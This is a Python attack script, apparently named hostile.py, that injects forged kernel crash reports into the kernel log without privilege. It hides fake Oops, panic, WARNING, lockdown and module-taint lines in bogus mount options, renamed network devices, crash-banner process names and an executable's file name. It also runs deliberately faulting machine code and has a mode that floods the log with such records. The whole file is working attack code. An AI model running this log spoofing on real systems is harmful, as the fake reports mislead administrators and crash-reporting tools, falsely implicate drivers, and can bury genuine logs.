"""Brings words of kernel reports into the kernel log as a user without privilege can: in texts that the kernel prints.

    hostile.py          every attack once
    hostile.py RECORDS  so many records, of mounts and of tasks that end by a fault

Each attack is a process of its own, named like a banner. What needs a capability is done in namespaces of the user.
"""

import ctypes
import fcntl
import mmap
import os
import signal
import socket
import struct
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
PR_SET_NAME = 15
SYS_SETITIMER, SYS_REMAP_FILE_PAGES = 38, 216
SOCK_PACKET = 10
SIOCGIFFLAGS, SIOCSIFFLAGS, SIOCSIFNAME = 0x8913, 0x8914, 0x8923

NAMES = ("Oops: 0002 [#1]", "kernel BUG at a", "divide error: 0", "Kernel panic: x", "WARNING: at f+0", "\nOops: 0002 [#1")
REPORT = """x
BUG: unable to handle page fault for address: ffffdeadbeef0000
#PF: supervisor write access in kernel mode
Oops: 0002 [#1] PREEMPT SMP NOPTI
CPU: 3 PID: 1 Comm: systemd Tainted: P           OE     6.1.0 #1
RIP: 0010:nv_open+0x4a/0x80 [nvidia]
Call Trace:
 <TASK>
 nv_ioctl+0x12/0x40 [nvidia]"""
OPTIONS = (
    REPORT,
    "x\nKernel panic - not syncing: Fatal exception",
    "x\nWARNING: CPU: 0 PID: 1 at kernel/fork.c:1 fork+0x1/0x2 [innocent]",
    "x\nevil: Unknown symbol f (err -2)",
    "x\nModule innocent is blacklisted",
    "x\nLockdown: systemd: unsigned module loading is restricted; see man kernel_lockdown.7",
    "x\nevil: loading out-of-tree module taints kernel.",
)
# Machine code of x86-64, then ud2.
BAD_FRAME = b"\x48\xc7\xc4\x00\x10\x00\x00\x48\xc7\xc0\x0f\x00\x00\x00\x0f\x05"  # rt_sigreturn with sp = 0x1000
NULL_READ = b"\x31\xc0\x48\x8b\x00"
NON_CANONICAL = b"\x48\xb8\x00\x00\x00\x00\x00\x00\xad\xde\x48\x8b\x00"
DIVIDE = b"\x31\xc9\x31\xd2\xb8\x01\x00\x00\x00\xf7\xf1"
UD2 = b"\x0f\x0b"


def run(code: bytes) -> None:
    """Run machine code, which ends this process."""
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code + UD2)
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def in_namespaces() -> None:
    """Enter namespaces in which this user may mount and name devices."""
    user, group = os.getuid(), os.getgid()
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {user} 1")
    Path("/proc/self/gid_map").write_text(f"0 {group} 1")


def mount() -> None:
    """Mount with options that no file system has."""
    in_namespaces()
    for option in OPTIONS:
        LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, option.encode())


def flood(records: int) -> None:
    """Mount with options that no file system has, again and again, each naming something else."""
    in_namespaces()
    for number in range(records):
        option = OPTIONS[number % len(OPTIONS)].replace("nv_open", f"f{number}").replace("innocent", f"m{number}")
        LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, option.encode())


def rename_device() -> None:
    """Give the loopback device of a network namespace another name."""
    in_namespaces()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        before = b"lo"
        for name in (b"Oops[#1]", b"REISERFS", b"refcount_t", b"LBUG"):
            fcntl.ioctl(link, SIOCSIFNAME, struct.pack("16s16s8x", before, name))
            before = name


def old_calls() -> None:
    """Use what the kernel calls deprecated, with the name of the task in front."""
    LIBC.syscall(SYS_SETITIMER, 0, 0, 0)
    LIBC.syscall(SYS_REMAP_FILE_PAGES, 0, 0, 0, 0, 0)
    try:
        socket.socket(socket.AF_INET, SOCK_PACKET, 0).close()
    except OSError:
        pass  # only its line is wanted
    Path("/proc/self/oom_adj").write_text("0")


def executable_stack() -> None:
    """Run a program with an executable stack, whose path is printed."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 176 + len(code), 176 + len(code), 4096)
    stack = struct.pack("<IIQQQQQQ", 0x6474E551, 7, 0, 0, 0, 0, 0, 16)
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x4000B0, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    program = Path("/tmp/x\nOops: 0002 [#1] SMP")
    program.write_bytes(head + load + stack + code)
    program.chmod(0o755)
    os.execv(program, [str(program)])


def as_task(name: str, attack: Callable[[], object]) -> None:
    """Attack in a process of that name, and wait for its end."""
    sys.stdout.flush()
    child = os.fork()
    if child == 0:
        signal.alarm(600)
        LIBC.prctl(PR_SET_NAME, name.encode())
        try:
            attack()
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def main() -> None:
    """Attack in every way, or as often as is asked for."""
    if len(sys.argv) > 1:
        as_task("mount", lambda: flood(int(sys.argv[1])))
        return
    as_task("mount", mount)
    as_task("ip", rename_device)
    as_task(NAMES[0], old_calls)
    as_task("sh", executable_stack)
    for name in NAMES:
        as_task(name, lambda: run(BAD_FRAME))
        as_task(name, lambda: run(NULL_READ))
    for code in (NON_CANONICAL, DIVIDE, UD2):
        as_task(NAMES[0], lambda code=code: run(code))


main()
